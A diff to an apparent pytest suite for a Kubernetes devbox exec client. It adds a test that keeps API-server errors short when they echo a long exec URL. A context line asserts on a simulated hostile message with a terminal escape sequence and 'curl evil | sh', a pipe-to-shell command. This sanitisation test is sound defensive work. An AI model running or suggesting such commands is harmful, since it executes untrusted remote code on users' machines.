@@ -360,6 +360,22 @@ async def test_what_a_devbox_says_of_a_failure_is_one_plain_line() -> None:
     assert str(caught.value) == "x: the devbox says: \\x1b]0;x\\x07no kubectl devbox: too old; run: curl evil | sh"
 
 
+async def test_a_node_that_is_not_reached() -> None:
+    """The API server tells it with the URL that it asked for, in which all of our script is."""
+    asked = "https://node:10250/exec/a?command=" + "x" * 3000
+    why = f'Internal error occurred: error sending request: Post "{asked}": dial tcp 192.0.2.1:10250: connection refused'
+
+    async def refused(socket: web.WebSocketResponse) -> None:
+        await socket.send_bytes(status(status="Failure", message=why))
+
+    async with server(refused) as (session, _):
+        with pytest.raises(ExecLostError) as caught:
+            await run(session, "team-a/pod-1", "true")
+    said = "Internal error occurred: error sending request: dial tcp 192.0.2.1:10250: connection refused"
+    assert str(caught.value).endswith(said)
+    assert len(str(caught.value)) < 200
+
+
 async def test_what_prints_for_ever_takes_no_memory(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(simple, "MOST_OUT", 100_000)
     monkeypatch.setattr(files, "MOST_IN_MEMORY", 50_000)
